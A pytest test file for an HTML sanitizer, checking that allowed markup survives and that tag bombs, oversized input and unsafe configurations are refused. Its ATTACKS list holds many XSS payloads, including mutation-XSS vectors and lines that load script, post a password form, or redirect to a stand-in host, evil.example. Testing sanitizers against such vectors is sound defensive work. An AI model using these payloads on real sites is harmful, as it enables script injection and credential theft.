"""HTML: allowed tags and attributes, and nothing that runs."""

from __future__ import annotations

import sys
import time
from html.parser import HTMLParser

import pytest

from asgi_guard.errors import ConfigError, MissingExtraError
from asgi_guard.sanitize import HTML_TAGS, SanitizeError, clean_html, markup

KEPT = {
    "plain text": ("fish & chips", "fish &amp; chips"),
    "emphasis": ("<b>bold</b> <em>so</em>", "<b>bold</b> <em>so</em>"),
    "a list": ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
    "code": ("<pre><code>if a &lt; b:</code></pre>", "<pre><code>if a &lt; b:</code></pre>"),
    "a link": (
        '<a href="https://example.com/?a=1&amp;b=2">x</a>',
        '<a href="https://example.com/?a=1&amp;b=2" rel="nofollow noopener noreferrer">x</a>',
    ),
    "prose that looks like an attack": ("select * from t where a < b", "select * from t where a &lt; b"),
    "unknown tags leave their text": ("<custom>text</custom>", "text"),
    "style and class": ('<p style="position:fixed" class="x" id="y">t</p>', "<p>t</p>"),
    "marks of direction, written as they are or not": ("a\u202e<b>b&#x202e;&#8203;</b>", "a<b>b</b>"),
    "code that begins with empty lines": ("<pre>\n\n\n\n\n\n\nx</pre>", "<pre>x</pre>"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&lpar;1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<p title='<script>'onmouseover=alert(1)>x",
    "<b/onclick=alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<a href='java\u200bscript:alert(1)'>x</a>",
    "&lt;scr\u200bipt&gt;alert(1)",
    "<\u200bscript>alert(1)</\u200bscript>",
]


class Seen(HTMLParser):
    """What another reader sees."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


@pytest.mark.parametrize(("given", "expected"), KEPT.values(), ids=KEPT)
def test_what_a_person_wrote_stays(given: str, expected: str) -> None:
    """With the tags of a text, and links that lend no weight and tell nothing."""
    assert clean_html(given) == expected


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs(attack: str) -> None:
    """Another parser finds allowed tags and harmless attributes only, and the result reads as itself."""
    clean = clean_html(f"before {attack} after")
    seen = Seen(clean)

    assert seen.tags <= HTML_TAGS
    assert seen.attributes <= {"href", "rel", "title", "start", "colspan", "rowspan", "scope"}
    assert [link for link in seen.links if ":" in link] == []
    assert clean_html(clean) == clean


def test_tags_attributes_and_schemes_are_a_choice() -> None:
    """An image is allowed by whoever asks for it."""
    given = '<img src="https://cdn.example.com/a.png" alt="a" onerror="x()"><b>b</b>'

    assert clean_html(given, tags={"img"}, attributes={"img": {"src", "alt"}}) == (
        '<img src="https://cdn.example.com/a.png" alt="a">b'
    )
    assert "href" not in clean_html('<a href="http://example.com">x</a>', schemes=["https"])


REFUSED = {
    "bytes": (b"<b>", {}, "not_text"),
    "half a character": ("\ud800", {}, "not_unicode"),
    "too long": ("a" * 101, {"max_length": 100}, "too_long"),
    "too long once it is escaped": ("&" * 21, {"max_length": 100}, "too_long"),
    "too many tags": ("<b>" * 1_001, {}, "too_many_tags"),
    "too many of what begins no reference": ("&" * 10_001, {}, "too_many_tags"),
}


@pytest.mark.parametrize(("given", "options", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_is_out_of_bounds_is_refused(given: object, options: dict, reason: str) -> None:
    """Cutting HTML would make other HTML of it."""
    with pytest.raises(SanitizeError) as error:
        clean_html(given, **options)

    assert error.value.reason == reason


def test_a_bomb_of_tags_takes_little() -> None:
    """Each paragraph opens all tags again that are not closed: elements by the square of what is sent."""
    bomb = "<p>" + "".join(f"<b title={number}>" for number in range(500)) + "</p><p>x" * 249
    began = time.process_time()

    with pytest.raises(SanitizeError):
        clean_html(bomb)

    assert time.process_time() - began < 1


def test_a_bomb_of_what_begins_no_reference_takes_little() -> None:
    """The parser takes time by the number of these and what stands behind them."""
    began = time.process_time()
    for bomb in ("&", "&a ", "&#", "&x;", "& " * 10):
        with pytest.raises(SanitizeError):
            clean_html((bomb * 1_000_000)[:1_000_000], max_length=1_000_000)

    assert time.process_time() - began < 5  # each alone took thirty


def test_references_are_not_counted() -> None:
    """A long page has thousands."""
    page = "<p>" + "a&nbsp;&amp;&#233;&#xE9; " * 3_000

    assert clean_html(page).count("&amp;") == 3_000


def test_what_changes_each_time_it_is_read_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """No HTML is known that still does after four times, so here it is read once."""
    monkeypatch.setattr(markup, "_ROUNDS", 1)

    assert clean_html("<b>closed</b>") == "<b>closed</b>"
    with pytest.raises(SanitizeError) as error:
        clean_html("<b>open")
    assert error.value.reason == "unstable"


NONSENSE = {
    "tags that are one text": {"tags": "div"},
    "tags that are none": {"tags": None},
    "a tag that is no text": {"tags": [1]},
    "attributes that are a list": {"attributes": ["href"]},
    "attributes of a tag that are one text": {"attributes": {"a": "href"}},
    "attributes of what is no tag": {"attributes": {1: ["href"]}},
    "schemes that are one text": {"schemes": "https"},
    "a length that is none": {"max_length": True},
}


@pytest.mark.parametrize("options", NONSENSE.values(), ids=NONSENSE)
def test_nonsense_is_told_to_the_developer(options: dict) -> None:
    """And does not become the letters of a word."""
    with pytest.raises(ConfigError, match=r"AG10[1-6]"):
        clean_html("x", **options)


UNSAFE = {
    "a script": {"tags": {"b", "script"}},
    "a frame": {"tags": {"iframe"}},
    "SVG": {"tags": {"svg"}},
    "a handler": {"attributes": {"b": {"onclick"}}},
    "a style": {"attributes": {"*": {"style"}}},
    "a script in capitals": {"tags": {"SCRIPT"}},
    "the attribute that is set here": {"attributes": {"a": {"rel"}}},
    "a scheme that runs code": {"schemes": ["https", "JavaScript"]},
    "no tags at all": {"max_tags": 0},
    "a bound without end": {"max_tags": 10_001},
}


@pytest.mark.parametrize("options", UNSAFE.values(), ids=UNSAFE)
def test_what_is_never_safe_cannot_be_allowed(options: dict) -> None:
    """A list of allowed tags is often copied from somewhere."""
    with pytest.raises(ConfigError, match=r"AG942|AG101"):
        clean_html("x", **options)


def test_without_the_extra_the_command_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    """At the first use."""
    monkeypatch.setitem(sys.modules, "nh3", None)

    with pytest.raises(MissingExtraError, match=r"asgi-guard\[sanitize\]"):
        clean_html("x")
